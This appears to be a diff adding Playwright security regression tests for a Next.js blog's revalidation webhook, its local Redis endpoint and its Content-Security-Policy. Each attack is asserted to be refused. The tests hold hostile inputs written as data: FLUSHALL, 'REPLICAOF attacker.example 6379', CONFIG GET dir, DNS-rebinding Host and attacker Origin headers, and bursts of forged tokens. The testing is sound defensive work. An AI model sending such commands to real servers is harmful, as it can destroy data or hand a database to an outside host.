@@ -1,0 +1,197 @@
+/**
+ * The attacks of the security-hardening issue, replayed over HTTP against `next build && next start`
+ * (a bare start: no client-address trust configured) and against the local endpoint it runs on.
+ * The sign-in rows live at the end of actions.spec.ts, because they block the shared sign-in bucket.
+ */
+import { request as httpRequest } from "node:http";
+import { expect, test } from "@playwright/test";
+import { Redis } from "@upstash/redis";
+import { SignJWT } from "jose";
+import { mintRevalidationToken } from "../lib/revalidation/mint";
+import { E2E } from "./env";
+
+const db = new Redis({
+  url: E2E.upstashUrl,
+  token: E2E.upstashToken,
+  automaticDeserialization: false,
+  enableTelemetry: false,
+});
+
+const secret = new TextEncoder().encode(E2E.revalidationSecret);
+
+async function revalidate(
+  request: import("@playwright/test").APIRequestContext,
+  token: string,
+  body: unknown,
+  headers: Record<string, string> = {},
+) {
+  const response = await request.post("/api/revalidate", {
+    headers: { authorization: `Bearer ${token}`, "content-type": "application/json", ...headers },
+    data: body,
+  });
+  return { status: response.status(), json: (await response.json()) as Record<string, unknown> };
+}
+
+test.describe("the webhook", () => {
+  test("tokens without iss, or with a scope such as s* or post*, are 401s that say why", async ({
+    request,
+  }) => {
+    const sign = (claims: Record<string, unknown>, iss?: string) => {
+      const jwt = new SignJWT(claims)
+        .setProtectedHeader({ alg: "HS256" })
+        .setAudience("revalidate")
+        .setExpirationTime("5m");
+      return (iss ? jwt.setIssuer(iss) : jwt).sign(secret);
+    };
+    const noIss = await revalidate(request, await sign({}), { tags: ["posts"] });
+    expect(noIss.status).toBe(401);
+    expect(JSON.stringify(noIss.json)).toContain("npm run token -- --iss");
+    for (const pattern of ["s*", "post*"]) {
+      const res = await revalidate(request, await sign({ scope: [pattern] }, "e2e-cms"), { tags: ["site"] });
+      expect(res.status).toBe(401);
+      expect(JSON.stringify(res.json)).toContain(`is not valid: use one of *, site, posts, post:*`);
+    }
+  });
+
+  test("15 bad tokens from a CMS's address, then the CMS's valid token: the valid token is served", async ({
+    request,
+  }) => {
+    const cmsAddress = { "x-forwarded-for": "203.0.113.10" };
+    const statuses: number[] = [];
+    for (let i = 0; i < 15; i++) {
+      statuses.push((await revalidate(request, `bad.token.${i}`, { tags: ["posts"] }, cmsAddress)).status);
+    }
+    // RATE_LIMIT_AUTH_FAILURES is 10/5m: guessing is slowed down...
+    expect(statuses.slice(-3)).toEqual([429, 429, 429]);
+    // ...but the CMS's own delivery is never refused for it.
+    const token = await mintRevalidationToken({
+      secret: E2E.revalidationSecret,
+      issuer: "e2e-cms",
+      scope: ["post:*"],
+      expiresInSeconds: 300,
+    });
+    const valid = await revalidate(
+      request,
+      token,
+      { id: `cms-${Date.now()}`, tags: ["post:hello-world"] },
+      cmsAddress,
+    );
+    expect(valid.status).toBe(200);
+    expect(valid.json.status).toBe("revalidated");
+  });
+
+  test("a comments:* token sending the CMS's ID first cannot make the post:* delivery a no-op", async ({
+    request,
+  }) => {
+    const id = `post-42-rev-${Date.now()}`;
+    const narrow = await mintRevalidationToken({
+      secret: E2E.revalidationSecret,
+      issuer: "e2e-cms",
+      scope: ["comments:*"],
+      expiresInSeconds: 300,
+    });
+    const broad = await mintRevalidationToken({
+      secret: E2E.revalidationSecret,
+      issuer: "e2e-cms",
+      scope: ["post:*"],
+      expiresInSeconds: 300,
+    });
+    expect((await revalidate(request, narrow, { id, tags: ["comments:hello-world"] })).json.status).toBe(
+      "revalidated",
+    );
+    const delivery = await revalidate(request, broad, { id, tags: ["post:hello-world"] });
+    expect(delivery.status).toBe(200);
+    expect(delivery.json.status).toBe("revalidated");
+    // The same sender reusing an ID for other tags is told so.
+    const conflict = await revalidate(request, broad, { id, tags: ["post:read-your-writes"] });
+    expect(conflict.status).toBe(409);
+    expect(conflict.json).toMatchObject({ error: { code: "id_conflict" } });
+  });
+});
+
+/** A raw request to the local endpoint, so the test can choose Host (fetch cannot). */
+function endpointRequest(
+  headers: Record<string, string>,
+  command: unknown[],
+): Promise<{ status: number; body: string }> {
+  const url = new URL(E2E.upstashUrl);
+  return new Promise((resolve, reject) => {
+    const req = httpRequest(
+      {
+        host: url.hostname,
+        port: url.port,
+        method: "POST",
+        path: "/",
+        headers: { "content-type": "application/json", ...headers },
+      },
+      (res) => {
+        const chunks: Buffer[] = [];
+        res.on("data", (chunk: Buffer) => chunks.push(chunk));
+        res.on("end", () =>
+          resolve({ status: res.statusCode ?? 0, body: Buffer.concat(chunks).toString("utf8") }),
+        );
+      },
+    );
+    req.setTimeout(5000, () => req.destroy(new Error("timed out")));
+    req.on("error", reject);
+    req.end(JSON.stringify(command));
+  });
+}
+
+test.describe("the local endpoint the server runs on", () => {
+  const auth = { authorization: `Bearer ${E2E.upstashToken}` };
+
+  test("DNS rebinding (Host: rebind.attacker.example) and browsers (Origin) are refused", async () => {
+    const rebound = await endpointRequest({ ...auth, host: "rebind.attacker.example" }, ["PING"]);
+    expect(rebound.status).toBe(403);
+    const browser = await endpointRequest({ ...auth, origin: "http://attacker.example" }, ["PING"]);
+    expect(browser.status).toBe(403);
+    expect((await endpointRequest(auth, ["PING"])).status).toBe(200);
+  });
+
+  test("CONFIG GET dir, FLUSHALL and REPLICAOF are refused, and the old local-dev-token is not the token", async () => {
+    for (const command of [
+      ["CONFIG", "GET", "dir"],
+      ["FLUSHALL"],
+      ["REPLICAOF", "attacker.example", "6379"],
+    ]) {
+      const res = await endpointRequest(auth, command);
+      expect(res.status).toBe(400);
+      expect(res.body).toContain(`${command[0]} is not allowed by the local Upstash endpoint`);
+    }
+    expect((await endpointRequest({ authorization: "Bearer local-dev-token" }, ["PING"])).status).toBe(401);
+    // The data is still there.
+    expect(await db.get("blog:seeded:v1")).not.toBeNull();
+  });
+});
+
+test.describe("the Content-Security-Policy", () => {
+  test("carries a script-src, and pages (with JavaScript) hit no violation", async ({ page, request }) => {
+    const header = (await request.get("/")).headers()["content-security-policy"] ?? "";
+    expect(header).toContain("script-src 'self' 'unsafe-inline'");
+    expect(header).not.toContain("unsafe-eval");
+
+    const violations: string[] = [];
+    page.on("console", (message) => {
+      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
+    });
+    await page.addInitScript(() => {
+      document.addEventListener("securitypolicyviolation", (event) => {
+        console.error(`Content Security Policy violation: ${event.violatedDirective} ${event.blockedURI}`);
+      });
+    });
+    for (const path of ["/", "/posts/hello-world", "/admin"]) {
+      await page.goto(path);
+      await page.waitForLoadState("networkidle");
+    }
+    // Hydrated: the comment form posts through React, which needs the inline bootstrap scripts.
+    await page.goto("/posts/stale-while-revalidate");
+    const text = `CSP check ${Date.now()}`;
+    await page.getByLabel("Name", { exact: true }).fill("CSP");
+    await page.getByLabel("Comment", { exact: true }).fill(text);
+    await page.getByRole("button", { name: "Post comment" }).click();
+    await expect(page.getByLabel("Comment", { exact: true })).toHaveValue("");
+    await expect(page.getByTestId("comment-list")).toContainText(text);
+    expect(violations).toEqual([]);
+  });
+});
